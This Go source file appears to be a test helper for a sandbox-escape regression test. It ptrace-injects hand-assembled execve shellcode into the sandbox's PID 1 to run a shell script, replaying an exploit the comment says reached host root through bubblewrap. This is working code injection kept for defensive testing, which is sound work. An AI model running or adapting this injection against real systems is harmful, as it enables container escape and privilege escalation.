package local

import (
	"encoding/binary"
	"fmt"
	"os"
	"runtime"

	"golang.org/x/sys/unix"
)

// helperInject is the attacker of TestEscapeReplay, run inside a sandbox through Terminal (runc exec):
// it ptraces the sandbox's PID 1 and makes it execve `/bin/sh <script>`, by writing an execve call over
// the code it is stopped in, as the exploit in issue 10 did to bubblewrap's init (then host root). It
// prints what happened; the test judges.
func helperInject(script string) {
	runtime.LockOSThread() // ptrace requests must come from the attaching thread
	const pid = 1
	if err := unix.PtraceAttach(pid); err != nil {
		fmt.Println("ptrace-attach:", err)
		return
	}
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil {
		fmt.Println("ptrace-wait:", err)
		return
	}
	var regs unix.PtraceRegs
	if err := unix.PtraceGetRegs(pid, &regs); err != nil {
		fmt.Println("ptrace-getregs:", err)
		return
	}
	// Strings and argv below the stack pointer, well clear of the red zone.
	base := regs.Rsp - 4096
	sh, arg := base, base+64
	argv := base + 512
	data := make([]byte, 1024)
	copy(data[0:], "/bin/sh\x00")
	copy(data[64:], script+"\x00")
	binary.LittleEndian.PutUint64(data[512:], sh)
	binary.LittleEndian.PutUint64(data[520:], arg)
	binary.LittleEndian.PutUint64(data[528:], 0)
	if _, err := unix.PtracePokeData(pid, uintptr(base), data); err != nil {
		fmt.Println("ptrace-poke-data:", err)
		return
	}
	// mov rdi, sh; mov rsi, argv; xor edx, edx; mov eax, 59 (execve); syscall
	code := []byte{0x48, 0xbf}
	code = binary.LittleEndian.AppendUint64(code, sh)
	code = append(code, 0x48, 0xbe)
	code = binary.LittleEndian.AppendUint64(code, argv)
	code = append(code, 0x31, 0xd2, 0xb8, 0x3b, 0x00, 0x00, 0x00, 0x0f, 0x05)
	if _, err := unix.PtracePokeText(pid, uintptr(regs.Rip), code); err != nil {
		fmt.Println("ptrace-poke-text:", err)
		return
	}
	regs.Orig_rax = ^uint64(0) // not in a syscall: no restart adjusts RIP
	if err := unix.PtraceSetRegs(pid, &regs); err != nil {
		fmt.Println("ptrace-setregs:", err)
		return
	}
	if err := unix.PtraceDetach(pid); err != nil {
		fmt.Println("ptrace-detach:", err)
		return
	}
	fmt.Println("injected")
	os.Stdout.Sync()
}
